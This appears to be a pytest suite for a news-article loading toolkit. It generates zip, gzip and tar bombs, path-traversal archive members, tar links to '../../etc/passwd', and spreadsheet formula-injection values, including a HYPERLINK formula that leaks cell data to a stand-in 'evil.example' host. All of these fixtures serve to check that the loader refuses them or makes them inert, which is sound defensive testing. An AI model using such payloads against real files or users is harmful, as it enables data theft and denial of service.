"""Hostile and odd inputs (issue 18): nothing lost, nothing silently wrong, bounded memory, safe sheets.

Every fixture is generated here (no bomb is committed); every case ends in
seconds, the bombs under a memory bound (tracemalloc, or an address-space
limit in a subprocess).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import re
import subprocess
import sys
import tarfile
import textwrap
import time
import tracemalloc
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from toolkit import cli
from toolkit.encoding import DecodingError, decode_bytes
from toolkit.errors import LoadError, LoadWarning, ParameterError
from toolkit.load import load_articles, load_report
from toolkit.readers import ArchiveLimits, ColumnMap, Problem, Row, read_file
from toolkit.sheets import formula_safe, make_csv_formula_safe, undo_formula_safe
from toolkit.validation import read_coding_sheet, write_coding_sheet

ROOT = Path(__file__).resolve().parents[1]
AUTO = ColumnMap()
# Real-world style news sentences (written for these tests).
STORY = (
    "The foreign ministry said on Tuesday that the talks would resume next week in Geneva. "
    "Officials from both delegations described the first round as frank and constructive, "
    "while opposition lawmakers accused the government of foreign interference in the vote. "
)
PAGE = (STORY * 3).encode("utf-8")
MIB = 2**20


def _load(source, **options) -> pd.DataFrame:
    with pytest.warns(LoadWarning):
        return load_articles(source, **options)


def _reasons(articles: pd.DataFrame) -> str:
    return "\n".join(f"{row.path} | {row.reason}" for row in load_report(articles).itertuples())


def _zip(members: dict, *, method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=method) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _patch_zip(data: bytes, member: str, *, flags: int = 0, method: int | None = None) -> bytes:
    """Set flag bits or the compression method of *member* in its local and central headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        local = archive.getinfo(member).header_offset
    central = data.find(b"PK\x01\x02")
    positions = [(local, 6, 8)]
    while central >= 0:
        name_length = int.from_bytes(data[central + 28 : central + 30], "little")
        if data[central + 46 : central + 46 + name_length] == member.encode():
            positions.append((central, 8, 10))
        central = data.find(b"PK\x01\x02", central + 4)
    for start, flag_at, method_at in positions:
        value = int.from_bytes(out[start + flag_at : start + flag_at + 2], "little") | flags
        out[start + flag_at : start + flag_at + 2] = value.to_bytes(2, "little")
        if method is not None:
            out[start + method_at : start + method_at + 2] = method.to_bytes(2, "little")
    return bytes(out)


def _tar(members: list[tarfile.TarInfo], contents: dict, *, mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        for info in members:
            data = contents.get(info.name)
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def _file_info(name: str, data: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info


# ------------------------------------------------------------ 1. nothing lost


def test_encrypted_deflate64_and_corrupt_zip_members_are_reported_and_the_rest_loads(tmp_path):
    data = _zip({"ok.txt": PAGE, "secret.txt": PAGE, "d64.txt": PAGE, "broken.txt": PAGE * 40})
    data = _patch_zip(data, "secret.txt", flags=0x1)
    data = _patch_zip(data, "d64.txt", method=9)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo("broken.txt")
    start = info.header_offset + 30 + len("broken.txt") + len(info.extra)
    middle = start + info.compress_size // 2
    data = data[:middle] + bytes(b ^ 0xFF for b in data[middle : middle + 64]) + data[middle + 64 :]
    (tmp_path / "a.zip").write_bytes(data)
    articles = _load(tmp_path / "a.zip")
    assert articles["source_path"].str.endswith("a.zip/ok.txt").tolist() == [True]
    reasons = _reasons(articles)
    assert "secret.txt | encrypted member" in reasons
    assert "d64.txt | unsupported compression (Deflate64)" in reasons
    assert "broken.txt | corrupt member data" in reasons


def test_corrupt_gzip_is_reported_and_the_other_files_load(tmp_path):
    packed = gzip.compress(PAGE * 50)
    middle = len(packed) // 2
    (tmp_path / "bad.txt.gz").write_bytes(packed[:middle] + b"\x00" * 32 + packed[middle + 32 :])
    (tmp_path / "truncated.txt.gz").write_bytes(packed[: len(packed) // 3])
    (tmp_path / "good.txt").write_bytes(PAGE)
    articles = _load(tmp_path)
    assert articles["source_path"].map(lambda p: Path(p).name).tolist() == ["good.txt"]
    report = load_report(articles)
    assert sorted(Path(p).name for p in report["path"]) == ["bad.txt.gz", "truncated.txt.gz"]
    assert report["reason"].str.startswith("corrupt gzip file").all()


def test_non_utf8_names_are_shown_escaped_and_loaded(tmp_path):
    name = os.fsdecode(b"caf\xe9.txt")  # a Latin-1 file name on a UTF-8 system
    try:
        (tmp_path / name).write_bytes(PAGE)
    except (OSError, UnicodeEncodeError):
        pytest.skip("this file system refuses non-UTF-8 names")
    flagged = _zip({"good.txt": PAGE, "caf\u00e9.txt": PAGE})  # zipfile sets the UTF-8 flag for this name
    flagged = flagged.replace("caf\u00e9".encode(), b"caf\xe9\xff")  # same length, now invalid UTF-8
    (tmp_path / "names.zip").write_bytes(flagged)
    tar_name = os.fsdecode(b"d\xe9j\xe0.txt")
    (tmp_path / "names.tar").write_bytes(_tar([_file_info(tar_name, PAGE)], {tar_name: PAGE}))
    articles = _load(tmp_path)
    paths = sorted(articles["source_path"].map(lambda p: p[len(str(tmp_path)) + 1 :]))
    assert paths == ["caf\\xe9.txt", "names.tar/d\\xe9j\\xe0.txt", "names.zip/caf\\xe9\\xff.txt", "names.zip/good.txt"]
    assert articles["doc_id"].is_unique
    assert load_report(articles)["reason"].str.contains("not valid UTF-8").sum() == 3
    articles.to_parquet(tmp_path / "out.parquet")  # every value encodable


def test_list_valued_json_fields_are_joined_or_first_used():
    records = [
        {"id": ["a1", "a1-bis"], "title": "Talks resume", "text": STORY, "authors": ["Ann Lee", "Bo Chen"],
         "outlet": ["Reuters", "AP"], "date": ["2022-01-10", "2022-01-11"], "tags": ["politics", "talks"]},
        {"id": "a2", "title": ["Part one", "part two"], "text": [STORY, STORY], "date": {"year": 2022}},
    ]
    items = read_file(json.dumps(records).encode(), "in.json", columns=AUTO)
    rows = [i for i in items if isinstance(i, Row)]
    problems = [i.reason for i in items if isinstance(i, Problem)]
    assert rows[0].fields["author"] == "Ann Lee; Bo Chen"
    assert rows[0].fields["outlet"] == "Reuters; AP"
    assert rows[0].fields["doc_id"] == "a1" and rows[0].fields["date"] == "2022-01-10"
    assert rows[0].extras["tags"] == '["politics", "talks"]'
    assert rows[1].fields["title"] == "Part one; part two"
    assert rows[1].fields["text"] == STORY.strip() + "\n\n" + STORY.strip()
    assert problems == ["doc_id has 2 values ['a1', 'a1-bis']: the first is used",
                        "date has 2 values ['2022-01-10', '2022-01-11']: the first is used",
                        "date is an object {'year': 2022}: kept as JSON text"]


def test_list_valued_fields_through_load_articles(tmp_path):
    records = [{"id": ["x", "y"], "text": STORY, "authors": ["A", "B"], "outlet": ["O1"], "date": ["2022-01-10"]}]
    (tmp_path / "a.json").write_text(json.dumps(records), encoding="utf-8")
    articles = _load(tmp_path / "a.json")
    row = articles.iloc[0]
    assert (row["doc_id"], row["author"], row["outlet"], str(row["date"].date())) == ("x", "A; B", "O1", "2022-01-10")


@pytest.mark.parametrize("given", ["0001-01-01", "1600", "9999-12-31", "1600-05-01T12:00:00Z"])
def test_dates_outside_pandas_range_are_kept_as_text_and_reported(tmp_path, given):
    records = [{"id": "old", "text": STORY, "date": given}, {"id": "new", "text": STORY, "date": "2022-01-10"}]
    (tmp_path / "a.json").write_text(json.dumps(records), encoding="utf-8")
    articles = _load(tmp_path / "a.json")
    assert articles["doc_id"].tolist() == ["old", "new"]
    assert pd.isna(articles["date"].iloc[0]) and str(articles["date"].iloc[1].date()) == "2022-01-10"
    assert articles["input_date"].iloc[0] == given and pd.isna(articles["input_date"].iloc[1])
    assert "outside the range pandas can store" in _reasons(articles)


def test_lone_surrogate_and_control_characters_are_repaired(tmp_path):
    raw = '[{"id": "s", "title": "Bad \\ud83d emoji\\u000b tab\\there", "outlet": "Out\\u0001let", ' \
          '"text": "Line one\\u0000 continues.\\u000cNext page. ' + STORY + '"}]'
    (tmp_path / "a.json").write_text(raw, encoding="utf-8")
    articles = load_articles(tmp_path / "a.json")
    row = articles.iloc[0]
    assert row["title"].startswith("Bad \ufffd emoji")
    assert row["title"].endswith("emoji\n tab\there") and row["outlet"] == "Outlet"
    assert row["text"].startswith("Line one continues.\nNext page.")
    assert not any(ord(c) < 32 and c not in "\n\t\r" for c in "".join(row[["title", "outlet", "text"]]))
    articles.to_parquet(tmp_path / "out.parquet")


def test_meta_charset_undefined_is_detected_instead(tmp_path):
    body = "".join(f"<p>{sentence.strip()}.</p>" for sentence in STORY.split(". ") if sentence.strip())
    html = (f'<html><head><meta charset="undefined"><title>Talks resume</title></head>'
            f"<body><article><h1>Talks resume</h1>{body}{body}</article></body></html>")
    (tmp_path / "page.html").write_text(html, encoding="utf-8")
    (tmp_path / "hex.html").write_text(html.replace("undefined", "hex"), encoding="utf-8")
    articles = load_articles(tmp_path)
    assert len(articles) == 2 and articles["text"].str.contains("Geneva").all()


def test_zip_nested_a_thousand_levels_is_refused_past_the_depth_limit(tmp_path):
    data = _zip({"story.txt": PAGE})
    for _ in range(1000):
        data = _zip({"inner.zip": data}, method=zipfile.ZIP_STORED)
    (tmp_path / "deep.zip").write_bytes(data)
    (tmp_path / "ok.txt").write_bytes(PAGE)
    started = time.perf_counter()
    articles = _load(tmp_path)
    assert time.perf_counter() - started < 10
    assert articles["source_path"].str.endswith("ok.txt").tolist() == [True]
    assert "nested more than 4 levels deep (archive_limits depth)" in _reasons(articles)
    shallow = _zip({"a.zip": _zip({"b.zip": _zip({"story.txt": PAGE})})})
    (tmp_path / "deep.zip").write_bytes(shallow)
    assert load_articles(tmp_path / "deep.zip")["source_path"].str.endswith("a.zip/b.zip/story.txt").all()


# ---------------------------------------------------- 2. nothing dropped silently


def test_zip_member_climbing_out_is_loaded_never_extracted(tmp_path):
    (tmp_path / "a.zip").write_bytes(_zip({"../x.txt": PAGE, "/abs.txt": PAGE, "ok.txt": PAGE}))
    articles = load_articles(tmp_path / "a.zip", strict=True)
    names = sorted(p.split("a.zip/", 1)[1] for p in articles["source_path"])
    assert names == ["../x.txt", "/abs.txt", "ok.txt"]
    assert not (tmp_path / "x.txt").exists()


def test_tar_links_are_reported_even_in_strict_mode(tmp_path):
    hard, soft = tarfile.TarInfo("hard.txt"), tarfile.TarInfo("soft.txt")
    hard.type, hard.linkname = tarfile.LNKTYPE, "a.txt"
    soft.type, soft.linkname = tarfile.SYMTYPE, "../../etc/passwd"
    fifo = tarfile.TarInfo("pipe")
    fifo.type = tarfile.FIFOTYPE
    (tmp_path / "a.tar").write_bytes(_tar([_file_info("a.txt", PAGE), hard, soft, fifo], {"a.txt": PAGE}))
    articles = _load(tmp_path / "a.tar")
    assert articles["source_path"].str.endswith("a.tar/a.txt").tolist() == [True]
    reasons = _reasons(articles)
    assert "hard.txt | tar hard link to 'a.txt': not followed" in reasons
    assert "soft.txt | tar symbolic link to '../../etc/passwd': not followed" in reasons
    assert "pipe | not a regular file" in reasons
    with pytest.raises(LoadError, match="hard.txt.*tar hard link"):
        load_articles(tmp_path / "a.tar", strict=True)


@pytest.fixture
def linked_folder(tmp_path) -> Path:
    """corpus/{a.txt, sub/b.txt, sub/up -> .., linked -> sub, also_a.txt -> a.txt, loop -> ., gone -> missing.txt}."""
    corpus = tmp_path / "corpus"
    (corpus / "sub").mkdir(parents=True)
    (corpus / "a.txt").write_bytes(PAGE)
    (corpus / "sub" / "b.txt").write_bytes(PAGE.replace(b"Geneva", b"Vienna"))
    (corpus / "sub" / "up").symlink_to("..")
    (corpus / "linked").symlink_to("sub")
    (corpus / "also_a.txt").symlink_to("a.txt")
    (corpus / "loop").symlink_to(".")
    (corpus / "gone.txt").symlink_to("missing.txt")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "c.txt").write_bytes(PAGE.replace(b"Geneva", b"Oslo"))
    (corpus / "external").symlink_to(outside)
    return corpus


@pytest.mark.parametrize("as_glob", [False, True])
def test_links_are_followed_once_and_dangling_ones_reported(linked_folder, as_glob):
    source = f"{linked_folder}/**/*.txt" if as_glob else linked_folder
    started = time.perf_counter()
    articles = _load(source)
    assert time.perf_counter() - started < 10
    relative = sorted(p[len(str(linked_folder)) + 1 :] for p in articles["source_path"])
    assert relative == ["a.txt", "external/c.txt", "sub/b.txt"]  # each real file once, under its real name
    report = load_report(articles)
    assert report["path"].map(lambda p: Path(p).name).tolist() == ["gone.txt"]
    assert report["reason"].iloc[0] == "symbolic link to 'missing.txt' leads nowhere (missing target or a loop): skipped"
    with pytest.raises(LoadError, match="gone.txt"):
        load_articles(source, strict=True)


def test_glob_over_two_link_loops_ends(tmp_path):
    corpus = tmp_path / "c"
    (corpus / "x" / "y").mkdir(parents=True)
    (corpus / "x" / "y" / "story.txt").write_bytes(PAGE)
    (corpus / "x" / "y" / "back").symlink_to("../..")
    (corpus / "x" / "again").symlink_to(".")
    started = time.perf_counter()
    articles = load_articles(f"{corpus}/**/*.txt", strict=True)
    assert time.perf_counter() - started < 10
    assert articles["source_path"].tolist() == [str(corpus / "x" / "y" / "story.txt")]
    assert len(load_articles(f"{corpus}/*/*/*.txt")) == 1
    with pytest.raises(LoadError, match="no files match"):
        load_articles(f"{corpus}/*.txt")


def test_unreadable_folder_is_reported(tmp_path, monkeypatch):
    (tmp_path / "locked").mkdir()
    (tmp_path / "locked" / "c.txt").write_bytes(PAGE)
    (tmp_path / "open.txt").write_bytes(PAGE)
    if os.geteuid() == 0:  # root reads everything: simulate the refusal
        import toolkit.inputs

        real_scandir = os.scandir

        def refusing(path):
            if Path(path).name == "locked":
                raise PermissionError(13, "Permission denied", str(path))
            return real_scandir(path)

        monkeypatch.setattr(toolkit.inputs.os, "scandir", refusing)
    else:
        (tmp_path / "locked").chmod(0)
    try:
        articles = _load(tmp_path)
        with pytest.raises(LoadError, match="locked.*cannot read the folder"):
            load_articles(tmp_path, strict=True)
    finally:
        (tmp_path / "locked").chmod(0o755)
    assert articles["source_path"].str.endswith("open.txt").tolist() == [True]
    assert "locked | cannot read the folder (Permission denied): its files are not loaded" in _reasons(articles)


# ----------------------------------------------------- 3. bounded memory and time


def _zeros_zip(size: int, name: str = "bomb.txt") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0-ok.txt", PAGE)  # members come in path order: this one first
        with archive.open(name, "w") as member:
            chunk = b" " * MIB
            for _ in range(size // MIB):
                member.write(chunk)
    return buffer.getvalue()


def _peak_bytes(action) -> tuple[object, int]:
    tracemalloc.start()
    try:
        result = action()
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_zip_bomb_member_is_refused_by_ratio_within_a_few_mib():
    data = _zeros_zip(64 * MIB)
    items, peak = _peak_bytes(lambda: read_file(data, "bomb.zip", columns=AUTO))
    assert [type(i).__name__ for i in items] == ["Row", "Problem"]
    assert "compression ratio above 200 (archive_limits ratio)" in items[1].reason
    assert peak < 16 * MIB


def test_member_and_archive_size_limits_can_be_set(tmp_path):
    data = _zeros_zip(24 * MIB)
    items, peak = _peak_bytes(lambda: read_file(data, "b.zip", columns=AUTO,
                                                limits={"member_bytes": 8 * MIB, "ratio": 1e9}))
    assert "more than 8,388,608 bytes (archive_limits member_bytes)" in items[-1].reason
    assert peak < 8 * MIB + 4 * MIB
    text = (STORY * 20000).encode()[: 3 * MIB]  # ~3 MiB of real sentences, compresses ~50x
    several = _zip({"1.txt": text, "2.txt": text, "3.txt": text})
    items = read_file(several, "s.zip", columns=AUTO, limits=ArchiveLimits(archive_bytes=7 * MIB))
    assert [type(i).__name__ for i in items] == ["Row", "Row", "Problem"]
    assert "(archive_limits archive_bytes)" in items[2].reason
    (tmp_path / "s.zip").write_bytes(several)
    assert len(_load(tmp_path / "s.zip", archive_limits={"archive_bytes": 7 * MIB})) == 2
    assert len(load_articles(tmp_path / "s.zip", archive_limits={"archive_bytes": 16 * MIB})) == 3
    with pytest.raises(ParameterError, match="archive_limits: unknown limit"):
        load_articles(tmp_path / "s.zip", archive_limits={"members": 1})
    with pytest.raises(ParameterError, match="archive_limits: ratio must be a positive number"):
        load_articles(tmp_path / "s.zip", archive_limits={"ratio": -1})


def test_gzip_and_tar_bombs_are_refused(tmp_path):
    packed = gzip.compress(b" " * (40 * MIB), compresslevel=1)
    tracemalloc.start()
    try:
        with pytest.raises(LoadError, match="bomb.txt.gz: .*archive_limits member_bytes"):
            read_file(packed, "bomb.txt.gz", columns=AUTO, limits={"member_bytes": 8 * MIB})
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 12 * MIB
    big = _file_info("big.txt", b"")
    big.size = 40 * MIB
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", compresslevel=1) as archive:
        archive.addfile(_file_info("0-ok.txt", PAGE), io.BytesIO(PAGE))  # members come in path order
        archive.addfile(big, io.BytesIO(b" " * big.size))
    items = read_file(buffer.getvalue(), "t.tar.gz", columns=AUTO, limits={"member_bytes": 8 * MIB})
    assert [type(i).__name__ for i in items] == ["Row", "Problem"]
    assert "member of 41,943,040 bytes" in items[1].reason


BOMB_IN_SUBPROCESS = textwrap.dedent("""
    import gzip, resource, sys, warnings
    from pathlib import Path
    import pandas, pyarrow  # imported before the cap: the cap is on what loading adds
    from toolkit.load import load_articles, load_report
    vm = int(next(l for l in open("/proc/self/status") if l.startswith("VmSize")).split()[1]) * 1024
    resource.setrlimit(resource.RLIMIT_AS, (vm + 600 * 2**20, vm + 600 * 2**20))
    warnings.simplefilter("ignore")
    articles = load_articles(sys.argv[1])
    print(len(articles), "|".join(load_report(articles)["reason"]))
""")


def test_gzip_bomb_with_default_limits_stays_under_an_address_space_cap(tmp_path):
    """A 320 MiB .gz bomb (1 MB on disk) passes the default 256 MiB member limit, in a process capped at +600 MB."""
    bomb = tmp_path / "bomb.txt.gz"
    with gzip.open(bomb, "wb", compresslevel=1) as handle:
        chunk = b"\n" * (16 * MIB)
        for _ in range(20):
            handle.write(chunk)
    (tmp_path / "ok.txt").write_bytes(PAGE)
    done = subprocess.run([sys.executable, "-c", BOMB_IN_SUBPROCESS, str(tmp_path)], capture_output=True, text=True,
                          timeout=60, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.startswith("1 ") and "(archive_limits " in done.stdout


def test_thousands_of_columns_load_in_linear_time(tmp_path):
    n_columns = 6000
    header = ["text", *[f"extra_{i}" for i in range(n_columns)]]
    with (tmp_path / "wide.csv").open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        for row in range(3):
            writer.writerow([STORY, *[f"{row}-{i}" for i in range(n_columns)]])
    started = time.perf_counter()
    articles = load_articles(tmp_path / "wide.csv")
    elapsed = time.perf_counter() - started
    assert articles.shape == (3, 13 + n_columns) or articles.shape[1] > n_columns
    assert articles["extra_5999"].tolist() == ["0-5999", "1-5999", "2-5999"]
    assert elapsed < 20, elapsed  # inserting the columns one by one took about a minute


# ------------------------------------------------------- 4. formula-safe sheets


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_planted_formula_is_inert_in_the_coding_sheets(tmp_path):
    from toolkit.match import keyword_in_context
    from toolkit.validation import validation_sample

    records = [{"id": "f1", "title": FORMULA, "outlet": "+Outlet\x0b", "text": FORMULA + " foreign interference " + STORY},
               {"id": "f2", "title": "@SUM(1,2)", "outlet": "Outlet", "text": "-2+3 foreign interference, " + STORY}]
    (tmp_path / "a.json").write_text(json.dumps(records), encoding="utf-8")
    articles = load_articles(tmp_path / "a.json")
    hits = keyword_in_context(articles, ["interference"])
    sample = validation_sample(hits, per=None, n=10)
    paths = write_coding_sheet(sample, tmp_path / "coding")
    book = openpyxl.load_workbook(paths["xlsx"])
    cells = [cell for row in book["coding"].iter_rows() for cell in row if isinstance(cell.value, str)]
    risky = [cell for cell in cells if cell.value.startswith(("=", "+", "-", "@"))]
    assert {cell.value for cell in risky} >= {FORMULA, "@SUM(1,2)", "+Outlet"}
    assert any(cell.value.startswith("-2+3 foreign") for cell in risky)
    assert {cell.data_type for cell in risky} == {"s"}
    with paths["csv"].open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    flat = [cell for row in rows for cell in row]
    assert not [cell for cell in flat if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULA in flat and any(cell.startswith("'-2+3 foreign") for cell in flat)
    for path in (paths["csv"], paths["xlsx"]):
        back = read_coding_sheet(path)
        assert set(back["title"]) == {FORMULA, "@SUM(1,2)"} and "+Outlet" in set(back["outlet"])
        assert back["pre"].str.startswith(FORMULA).any() and back["pre"].str.startswith("-2+3 foreign").any()


def test_control_characters_do_not_break_write_coding_sheet(tmp_path):
    sample = pd.DataFrame({"line_id": [1], "title": ["a\x01b\x00c"], "outlet": ["x\x0by"], "pre": ["p"],
                           "keyword": ["k"], "post": ["q"]})
    paths = write_coding_sheet(sample, tmp_path / "sheet.xlsx")
    back = read_coding_sheet(paths["xlsx"])
    assert (back["title"].iloc[0], back["outlet"].iloc[0]) == ("abc", "x\ny")


@pytest.mark.parametrize(
    "cell, safe",
    [("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
     ("\r=1", "'\r=1"), ("-3.5", "-3.5"), ("+7", "+7"), ("-1e-05", "-1e-05"), ("plain", "plain"), ("", "")],
)
def test_formula_safe_cells(cell, safe):
    assert formula_safe(cell) == safe
    assert undo_formula_safe(safe) == cell


def test_report_tables_are_made_formula_safe(tmp_path):
    table = tmp_path / "02-keyword-in-context.csv"
    pd.DataFrame({"pre": [FORMULA, "calm words"], "log_ratio": [-3.25, 1.5], "n": [1, 2]}).to_csv(table, index=False)
    assert make_csv_formula_safe(table)
    back = pd.read_csv(table)
    assert back["pre"].tolist() == ["'" + FORMULA, "calm words"]
    assert back["log_ratio"].tolist() == [-3.25, 1.5]
    assert not make_csv_formula_safe(table)  # idempotent


def test_formula_scan_never_misses_a_cell_that_would_change(tmp_path):
    """make_csv_formula_safe skips rewriting a table only when no cell would change: its scan checked
    against parsing every cell (csv and formula_safe) on tables with formula-like cells planted anywhere
    (first cell of the file, quoted, after a line break inside a quoted cell, at a chunk boundary) and
    with only plain numbers, dates and dashes inside cells."""
    import csv
    import random

    import pandas as pd

    from toolkit.sheets import _may_hold_formulas

    harmless = ["-3.2", "+1e-5", "2022-01-05", "so-called", "a, b", 'say "x"', "", "12%", "line\nbreak", "x-=y", "-"]
    risky = ["=HYPERLINK(\"http://x\")", "+cmd", "-2+3", "@SUM(A1)", "\tx", "=1", "- dash", "-a, b", "@"]
    rng = random.Random(0)
    outcomes = set()
    for trial in range(300):
        cells = [[rng.choice(harmless) for _ in range(4)] for _ in range(rng.randint(1, 30))]
        if trial % 3:
            row, column = rng.randrange(len(cells)), rng.randrange(4)
            cells[row][column] = rng.choice(risky)
        path = tmp_path / f"t{trial}.csv"
        frame = pd.DataFrame(cells, columns=["a", "b", "c", "d"])
        frame.to_csv(path, index=False, header=bool(trial % 2))
        said = _may_hold_formulas(path, chunk_chars=rng.choice([7, 64, 1 << 20]))
        with path.open(newline="", encoding="utf-8") as source:
            changed = any(formula_safe(cell) != cell for row in csv.reader(source) for cell in row)
        assert said or not changed, (trial, cells)
        outcomes.add((said, changed))
    assert {(True, True), (False, False)} <= outcomes  # both kinds of table were met, and told apart



# ------------------------------------------------- 5. clear errors, clean runs


def test_forced_utf16_on_utf8_files_is_refused(tmp_path):
    (tmp_path / "a.txt").write_bytes(PAGE)
    with pytest.raises(DecodingError, match="bytes are UTF-8"):
        decode_bytes(PAGE, encoding="utf-16")
    articles = _load(tmp_path, encoding="utf-16")
    assert articles.empty and "not utf-16" in _reasons(articles)
    assert decode_bytes(STORY.encode("utf-16"), encoding="utf-16").text == STORY
    assert decode_bytes("新华社北京1月10日电".encode("utf-16-le"), encoding="utf-16-le").text == "新华社北京1月10日电"
    with pytest.raises(DecodingError, match="mostly unlikely characters"):
        decode_bytes("Москва заявила во вторник, что переговоры продолжатся.".encode("cp1251"), encoding="latin-1")


def test_text_given_as_a_number_is_text():
    items = read_file(json.dumps([{"text": 20220110}, {"text": 3.5}, {"text": None}, {"text": True}]).encode(),
                      "n.json", columns=AUTO)
    assert [i.fields["text"] if isinstance(i, Row) else i.reason for i in items] == [
        "20220110", "3.5", "empty text", "text is not text: bool"]


def _workbook_bytes(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_excel_formula_title_is_kept_as_text_and_reported():
    data = _workbook_bytes([["title", "text", "date"], ['=CONCAT("Talks ", "resume")', STORY, 44571],
                            ["Plain", STORY, None]])
    items = read_file(data, "a.xlsx", columns=AUTO)
    problems = [i for i in items if isinstance(i, Problem)]
    rows = [i for i in items if isinstance(i, Row)]
    assert rows[0].fields["title"] == '=CONCAT("Talks ", "resume")' and rows[1].fields["title"] == "Plain"
    assert [p.line for p in problems] == [2]  # the sheet row Excel shows (the header is row 1)
    assert problems[0].reason.startswith("Excel formula without a saved result in ['title']")


@pytest.mark.parametrize(
    "given, expected",
    [(44571, "2022-01-10"), (44571.75, "2022-01-10 18:00"), ("44571", "2022-01-10"), (1641772800, "2022-01-10"),
     (1641772800000, "2022-01-10"), ("20220110", "2022-01-10"), (2022, "2022-01-01"), ("2022", "2022-01-01")],
)
def test_excel_serials_and_epoch_numbers_are_dates(tmp_path, given, expected):
    (tmp_path / "a.json").write_text(json.dumps([{"text": STORY, "date": given}]), encoding="utf-8")
    articles = load_articles(tmp_path / "a.json")
    assert articles["date"].iloc[0] == pd.Timestamp(expected)


def test_excel_serial_date_cell(tmp_path):
    (tmp_path / "a.xlsx").write_bytes(_workbook_bytes([["text", "date"], [STORY, 44571]]))
    assert load_articles(tmp_path / "a.xlsx")["date"].iloc[0] == pd.Timestamp("2022-01-10")


@pytest.mark.parametrize("given", ["123456", "0.5", "1234567"])
def test_ambiguous_numbers_stay_unparsed(tmp_path, given):
    (tmp_path / "a.json").write_text(json.dumps([{"text": STORY, "date": given}]), encoding="utf-8")
    assert "unparseable date" in _reasons(_load(tmp_path / "a.json"))


def test_cli_load_fails_when_nothing_loads_and_writes_csv_when_asked(tmp_path, capsys):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "empty.txt").write_bytes(b"")
    assert cli.main(["load", str(tmp_path / "in"), "--out", str(tmp_path / "out.parquet")]) == 1
    assert "no article loaded" in capsys.readouterr().err
    assert not (tmp_path / "out.parquet").exists() and (tmp_path / "out.load_report.csv").exists()
    (tmp_path / "in" / "a.txt").write_bytes(PAGE)
    assert cli.main(["load", str(tmp_path / "in"), "--out", str(tmp_path / "out.csv")]) == 0
    assert pd.read_csv(tmp_path / "out.csv")["text"].str.contains("Geneva").all()
    assert cli.main(["load", str(tmp_path / "in"), "--out", str(tmp_path / "out.txt")]) == 1
    assert "--out" in capsys.readouterr().err and not (tmp_path / "out.txt").exists()


@pytest.mark.parametrize(
    "arguments, message",
    [(["report", "-f", "{int}"], "-f: .*1 is not a parameter name"),
     (["report", "-f", "{surrogate}"], "lone surrogate"),
     (["report", "--notebooks", str(ROOT / "README.md")], "--notebooks: .*README.md is not a notebook"),
     (["parameters", str(ROOT / "README.md")], "README.md is not a notebook")],
)
def test_cli_errors_are_one_line(tmp_path, capsys, arguments, message):
    (tmp_path / "int.yaml").write_text("1: 5\n", encoding="utf-8")
    (tmp_path / "surrogate.yaml").write_text('outlet: "\\ud83d"\n', encoding="utf-8")
    arguments = [a.format(int=tmp_path / "int.yaml", surrogate=tmp_path / "surrogate.yaml") for a in arguments]
    assert cli.main([*arguments, "--out", str(tmp_path / "o")] if arguments[0] == "report" else arguments) == 1
    error = capsys.readouterr().err
    assert error.count("\n") == 1 and "Traceback" not in error
    assert re.search(message, error), error
